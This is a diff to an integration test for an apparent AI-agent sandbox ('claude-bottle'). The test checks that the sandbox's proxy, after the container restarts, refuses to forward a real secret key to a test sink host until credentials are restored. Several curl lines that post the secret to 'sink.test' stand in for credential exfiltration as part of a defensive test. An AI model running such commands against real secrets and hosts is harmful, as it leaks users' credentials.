@@ -406,6 +406,9 @@ def test_a_restarted_bundle_refuses_everything_until_it_has_its_credentials(env:
         refused = b.sh(f"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' -d 'k={REAL}' "
                        f"https://sink.test/{leak}")
         assert refused.stdout == "403" and not sink.got(leak)
+        # The proxy refuses every network its bundle sits on, found when it starts: the sink's network
+        # is joined again only after the restart, as an upstream outside the bottle would be.
+        docker("network", "disconnect", "--force", sink.network, b.bundle)
         if how == "restart":
             docker("restart", "-t", "1", b.bundle)
         elif how == "kill-start":
@@ -414,7 +417,8 @@ def test_a_restarted_bundle_refuses_everything_until_it_has_its_credentials(env:
         else:
             docker("stop", "-t", "1", b.bundle)
             docker("start", b.bundle)
-        _wait_proxy(b)
+        _wait_proxy(b)  # its networks are read when the proxy starts: join the sink's only after
+        connect(sink.network, b.bundle, [sink.host])
         leak = _marker()
         out = b.sh(f"curl -sS --max-time 20 -w '\\n%{{http_code}}' -d 'k={REAL}' https://sink.test/{leak}")
         assert not sink.got(leak), f"{how}: the real value left after a restart: {out}"
@@ -428,5 +432,16 @@ def test_a_restarted_bundle_refuses_everything_until_it_has_its_credentials(env:
         assert "credentials" in row["problem"] and f"claude-bottle down {b.slug}" in row["problem"], row
         table = env.cli("list")
         assert f"claude-bottle down {b.slug}" in table.stdout + table.stderr, table
+        # `start` gives the bundle its credentials again (and the agent the bundle's new CA)
+        env.cli("start", b.slug, env_extra={"CB_REDTEAM_KEY": REAL})
+        again = _marker()
+        ok = b.sh(f"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' https://sink.test/{again}")
+        assert ok.stdout == "200" and sink.got(again), (ok, b.audit()[-2:])
+        leak = _marker()
+        refused = b.sh(f"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' -d 'k={REAL}' "
+                       f"https://sink.test/{leak}")
+        assert refused.stdout == "403" and not sink.got(leak), refused
+        row = next(r for r in json.loads(env.cli("list", "--json").stdout) if r["slug"] == b.slug)
+        assert row["problem"] == "" and row["state"] == "running", row
     finally:
         _down(b, sink)
